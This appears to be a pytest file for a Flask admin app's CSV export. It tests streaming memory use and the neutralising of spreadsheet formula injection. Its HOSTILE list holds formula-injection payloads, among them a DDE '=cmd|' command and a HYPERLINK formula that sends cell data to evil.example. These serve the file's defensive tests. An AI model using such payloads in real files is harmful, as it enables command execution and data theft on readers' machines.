"""The export stream: header first, before the query runs; flat memory over a million rows on PostgreSQL."""

from __future__ import annotations

import csv
import io
import random
from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa
from flask import Flask
from flask_login import login_user  # type: ignore[import-untyped]

from admin_app.admin import export
from admin_app.extensions import db
from admin_app.models import Comment
from admin_app.services.export import neutralised, table_csv
from tests.factories import CommentFactory, UserFactory

MILLION = 1_000_000


def resident_mb() -> float:
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * 4096 / 2**20


def comment_view(app: Flask) -> object:
    return next(view for view in app.extensions["admin"][0]._views if view.endpoint == "comment")


def test_the_header_leaves_before_the_query_runs(app: Flask) -> None:
    CommentFactory.create_batch(3)
    staff = UserFactory(roles=["staff"])
    with app.test_request_context("/admin/comment/export/csv/"):
        login_user(staff)
        chunks = iter(export.stream(comment_view(app)))
        in_use = db.engine.pool.checkedout()  # type: ignore[attr-defined]
        first = next(chunks)
        assert first.startswith(b"ID,Author,")
        assert db.engine.pool.checkedout() == in_use, "no connection was taken for the rows yet"  # type: ignore[attr-defined]
        rest = b"".join(chunks)
    assert len(list(csv.reader(io.StringIO(rest.decode(), newline="")))) == 3


@pytest.mark.postgresql_only
def test_a_million_rows_stream_in_flat_memory(app: Flask) -> None:
    staff = UserFactory(roles=["staff"])
    post = CommentFactory().post
    with db.engine.begin() as connection:
        connection.execute(
            sa.text(
                "INSERT INTO comments (body, timestamp, disabled, author_id, post_id) "
                "SELECT '=comment ' || i, timestamp '2026-01-01' + i * interval '1 second', i % 10 = 0, :author, :post "
                "FROM generate_series(1, :n) AS i"
            ),
            {"author": staff.id, "post": post.id, "n": MILLION - 1},
        )
    with app.test_request_context("/admin/comment/export/csv/"):
        login_user(staff)
        csv_stream = export.stream(comment_view(app))
        before = peak = resident_mb()
        size = lines = 0
        for chunk in csv_stream:
            size += len(chunk)
            lines += chunk.count(b"\n")
            if lines % 50_000 < 200:
                peak = max(peak, resident_mb())
        after = resident_mb()

    assert csv_stream.rows == MILLION and lines == MILLION + 1
    assert size > 40 * 2**20  # over 40 MB went through...
    # ...while the process grew by a few MB at most (a list of rows would take over a gigabyte).
    assert peak - before < 25, f"RSS {before:.0f} MB before, peak {peak:.0f} MB, {after:.0f} MB after"
    print(f"1,000,000-row export: {size / 2**20:.0f} MB; RSS {before:.0f} -> peak {peak:.0f} -> {after:.0f} MB")


# Bodies that put a formula first in some cell for some reader: a comma, semicolon (Excel in German, French,
# Spanish), tab or pipe separator, a line break, a quote, spaces a reader trims; and OWASP's own examples.
HOSTILE = [
    "=1+1",
    "  =1+1",
    "x;=2+3;",
    "x\t=2+3",
    "x,=1+1",
    "a, =1",
    "a; -1",
    "a|@SUM(1)",
    'x;"=1+1"',
    "line\n=1+1",
    "line\r\n+1",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    '";=1+1;"',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+41 22 000 00 00",
    "@SUM(A1:A9)",
    "tail;=",
]
HARMLESS = ["well - done", "e-mail", "a=b", "2+2", "plain text, with a comma", 'quoted "words"\nand a second line']
READERS = [",", ";", "\t", "|"]
FORMULA_CHARACTERS = ("=", "+", "-", "@")


def formula_cells(data: str) -> list[tuple[str, str]]:
    """(separator, cell) for every cell that a reader splitting on that separator would see start with a formula
    character once it trims spaces. Nothing else in the data starts with one: ids, counts and ISO dates start
    with a digit, usernames and headers with a letter."""
    return [
        (separator, value)
        for separator in READERS
        for row in csv.reader(io.StringIO(data, newline=""), delimiter=separator)
        for value in row
        if value.strip().startswith(FORMULA_CHARACTERS)
    ]


def exported_comments(app: Flask) -> str:
    staff = UserFactory(roles=["staff"])
    with app.test_request_context("/admin/comment/export/csv/"):
        login_user(staff)
        return b"".join(export.stream(comment_view(app))).decode()


def bodies_by_id(data: str) -> dict[int, str]:
    return {int(row[0]): row[3] for row in list(csv.reader(io.StringIO(data, newline="")))[1:]}


def test_no_reader_finds_a_formula_in_any_cell_of_an_export(app: Flask) -> None:
    made = {CommentFactory(body=text).id: text for text in HOSTILE + HARMLESS}

    data = exported_comments(app)

    assert formula_cells(data) == []
    bodies = bodies_by_id(data)
    assert {bodies[id_] for id_, text in made.items() if text in HARMLESS} == set(HARMLESS)  # byte for byte
    assert [bodies[id_] for id_, text in made.items() if text in HOSTILE[:8]] == [
        "'=1+1",
        "  '=1+1",
        "x;'=2+3;",
        "x\t'=2+3",
        "x,'=1+1",
        "a, '=1",
        "a; '-1",
        "a|'@SUM(1)",
    ]
    assert bodies[next(id_ for id_, text in made.items() if text.startswith("\t"))] == "'\t'=cmd|' /C calc'!A0"


def test_the_database_applies_exactly_the_python_rule(app: Flask) -> None:
    """PostgreSQL's POSIX regular expression, SQLite's Python function and ``neutralised`` agree, on strings drawn
    from the characters the rule is about."""
    draw = random.Random(20261121)
    alphabet = "=+-@,;\t|\r\n\" a'"
    samples = sorted({"".join(draw.choices(alphabet, k=draw.randint(1, 7))) for _ in range(3_000)})
    comment = CommentFactory()
    db.session.execute(
        sa.insert(Comment),
        [{"body": text, "author_id": comment.author_id, "post_id": comment.post_id} for text in samples],
    )
    db.session.commit()

    stored = {id_: body for id_, body in db.session.execute(sa.select(Comment.id, Comment.body))}

    bodies = bodies_by_id(exported_comments(app))

    assert len(bodies) == len(samples) + 1
    assert [id_ for id_, text in stored.items() if bodies[id_] != neutralised(text)] == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("x;=2+3;", "x;'=2+3;"),
        ("a, =1", "a, '=1"),
        ("a; -1", "a; '-1"),
        ('x;"=1+1"', 'x;"\'=1+1"'),
        ("line\r\n+1", "line\r\n'+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\tplain", "'\tplain"),
        ("well - done", "well - done"),
    ],
)
def test_neutralised_puts_an_apostrophe_before_each_formula_character(text: str, expected: str) -> None:
    assert neutralised(text) == expected


def test_no_reader_finds_a_formula_in_a_reports_table() -> None:
    rows = [(text, 3, date(2026, 11, 21)) for text in HOSTILE + HARMLESS]

    data = table_csv(["Reason", "Comments", "Day"], rows).decode()

    assert formula_cells(data) == []
    assert [row[0] for row in list(csv.reader(io.StringIO(data, newline="")))[-len(HARMLESS) :]] == HARMLESS
    assert neutralised(7) == 7
